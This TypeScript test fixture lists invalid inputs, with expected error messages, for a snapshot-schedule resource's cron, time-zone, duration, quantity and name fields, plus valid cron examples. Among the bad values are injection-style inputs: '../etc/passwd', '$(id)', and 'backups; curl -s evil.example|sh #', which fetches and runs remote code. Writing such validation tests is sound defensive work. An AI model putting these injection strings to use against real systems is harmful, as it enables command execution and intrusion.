// What breaks each rule of a MeiliSnapshotSchedule: where the rule stands, what it says, and the members to change in the complete one.

type Change = readonly (readonly [string, unknown])[]
type Bad = readonly [at: string, says: string, change: Change]

const schedule =
  'schedule has five fields, minute hour day month weekday, each of numbers, names, ranges, lists and steps of * or a range, or is one of @hourly, @daily, @weekly, @monthly: write for example 0 3 * * *; the time zone is a field of its own, timeZone'
const timeZone = 'timeZone is the IANA name of a time zone, not an offset: write for example Europe/Berlin or Etc/UTC'
const duration = 'a duration is whole hours, minutes and seconds: write for example 90s, 6h or 1h30m'
const positive = 'a duration is longer than 0s: write for example 90s or 6h'
const labelValue =
  'the value of a label is letters, digits, -, _ and ., and begins and ends with a letter or digit: write for example shop or team-a'

const badSchedules = [
  // As other programs take it, and what none takes.
  ['0 0 3 * * *', '0 3 * * * 2027', '0 3 * *', '0 3 L * *', '0 3 15W * *', '0 3 * * 5L', '0 3 * * 1#2', '0 3 ? * *'],
  ['0 3 * * ?', '0/15 * * * *', '5/15 * * * *', '*/0 * * * *', '0 H * * *', '60 * * * *', '0 24 * * *', '0 3 0 * *'],
  ['0 3 32 * *', '0 3 * 13 *', '0 3 * * 8', '0 3 * foo *', '-1 3 * * *', '1- 3 * * *', '1,, 3 * * *', '*/100 * * * *'],
  ['@reboot', '@yearly', '@annually', '@midnight', '@every 5m', '@Daily', 'daily', '0 3 * * monday'],
  ['TZ=Europe/Berlin 0 3 * * *', 'CRON_TZ=UTC 0 3 * * *', ' 0 3 * * *', '0 3 * * * ', '0\t3 * * *', '0 3 * * *\n'],
].flat()
const badZones = [
  'Europe/ Berlin',
  'Europe/Berlin ',
  ' UTC',
  '+02:00',
  '-5',
  'Europe//Berlin',
  '/UTC',
  '../etc/passwd',
  'Etc/',
]
const snapshot = 'spec.template.spec'
const claimPath =
  'path is a directory on the claim: relative, of letters, digits, ., _ and -, no part of it starting with a dot: write for example movies/daily'
const quantity = 'a quantity is a number with an optional unit: write for example 20Gi or 500m'
const bandwidth = 'bandwidthLimit is at least 1Mi (bytes per second): write for example 50Mi'
const named = (kind: string, field = 'name'): string =>
  `${field} must be the name of ${kind}: lower-case letters, digits, - and .`

const at = (member: string, says: string, ...values: readonly unknown[]): readonly Bad[] =>
  values.map((value) => [member, says, [[member, value]]])
const durations = (...members: readonly string[]): readonly Bad[] =>
  members.flatMap((member) => [
    ...at(member, duration, '1d', '90', '-1s', '1.5h', '1s1h'),
    ...at(member, positive, '0s', '0h0m'),
  ])

const metadata = (['labels', 'annotations'] as const).flatMap((field): readonly Bad[] => [
  ...['schedule', 'schedule-uid', 'keep', 'anything'].map((name): Bad => [
    `spec.template.metadata.${field}`,
    `${field} that begin with meili-operator.dev/ are the operator's own: leave them out`,
    [[`spec.template.metadata.${field}`, { [`meili-operator.dev/${name}`]: 'x' }]],
  ]),
  ...['', 'a b', '-a', 'a/b/c', 'A.example/x', 'example.com/', 'a'.repeat(320)].map((name): Bad => [
    `spec.template.metadata.${field}`,
    `the name of each of the ${field} is letters, digits, -, _ and ., with or without a prefix such as example.com/: write for example team or example.com/team`,
    [[`spec.template.metadata.${field}`, { [name]: 'x' }]],
  ]),
])

/** @param verification where it stands: in a MeiliSnapshot, or in a template for such ones */
export const badBoots = (verification: string): readonly Bad[] => [
  ...at(`${verification}.mode`, 'boot is for mode Boot: write mode: Boot beside it', 'None', 'Archive').map(
    ([, says, change]): Bad => [verification, says, change],
  ),
  ...durations(`${verification}.boot.deadline`),
  ...at(`${verification}.boot.size`, quantity, 'x', '1GiB'),
  ...at(`${verification}.boot.storageClassName`, named('a StorageClass', 'storageClassName'), 'Fast', 'a\n'),
  ...at(`${verification}.boot.resources.requests.cpu`, quantity, 'two'),
  ...at(`${verification}.boot.resources.limits.memory`, quantity, '1GB!'),
]

export const badScheduleObjects: readonly Bad[] = [
  ...badBoots(`${snapshot}.verification`),
  ...at('spec.schedule', schedule, ...badSchedules),
  ...at('spec.drill.schedule', schedule, '0 3 * * 8', '@reboot', '0 0 3 * * *'),
  ...durations('spec.drill.maxAge'),
  ...at('spec.drill.resources.requests.cpu', quantity, 'two'),
  ...at('spec.drill.resources.limits.memory', quantity, '1GB!'),
  ...at('spec.drill.size', quantity, 'x', '1GiB'),
  ...at('spec.drill.storageClassName', named('a StorageClass', 'storageClassName'), 'Fast', 'a\n'),
  ...at('spec.timeZone', timeZone, ...badZones),
  ...at('spec.drill.schedule', schedule, '@reboot', '0 0 5 * * 0', 'TZ=UTC 0 5 * * 0'),
  ...at('spec.drill.size', quantity, '20GiB', 'much'),
  ...at('spec.drill.storageClassName', named('a StorageClass', 'storageClassName'), 'Fast', '$(id)'),
  ...durations('spec.drill.maxAge'),
  ...durations('spec.jitter', 'spec.startingDeadline', 'spec.retention.keepWithin'),
  ...durations(...['start', 'task', 'move'].map((clock) => `${snapshot}.deadlines.${clock}`)),
  ...metadata,
  ...at('spec.template.metadata.labels.team', labelValue, 'a b', '-a', 'a.', 'ä'),
  ...at(`${snapshot}.source.instanceRef.name`, named('an object in this namespace'), 'Movies', '$(id)'),
  ...at(
    `${snapshot}.destination.claim.name`,
    named('a PersistentVolumeClaim in this namespace'),
    'a_b',
    'backups; curl -s evil.example|sh #',
  ),
  ...at(`${snapshot}.destination.claim.path`, claimPath, '/a', '../a', '.a', 'a//b'),
  ...at(
    `${snapshot}.destination.claim.template.storageClassName`,
    named('a StorageClass', 'storageClassName'),
    'Fast',
    'a\n',
  ),
  ...at(`${snapshot}.destination.claim.template.resources.requests.storage`, quantity, 'x', '1GiB'),
  ...at(`${snapshot}.mover.resources.requests.cpu`, quantity, 'two'),
  ...at(`${snapshot}.mover.resources.limits.memory`, quantity, '1GB!'),
  ...at(`${snapshot}.mover.stream.maxSize`, quantity, '10 GB'),
  ...at(`${snapshot}.mover.bandwidthLimit`, quantity, '50MB'),
  ...at(`${snapshot}.mover.bandwidthLimit`, bandwidth, '1023Ki', 0),
  ...at(`${snapshot}.mover.priorityClassName`, named('a PriorityClass', 'priorityClassName'), 'Low'),
]

/** What is taken, as people write it. */
export const goodSchedules = [
  ['0 3 * * *', '*/15 * * * *', '0 3 * * 1-5', '00 03 01 01 7', '0 3 * * Sun', '30 2 1,15 * *', '0 */6 * * *'],
  ['5-59/15 * * * *', '0 3 1-7 JAN mon', '0  3  *  *  *', '@hourly', '@daily', '@weekly', '@monthly'],
].flat()
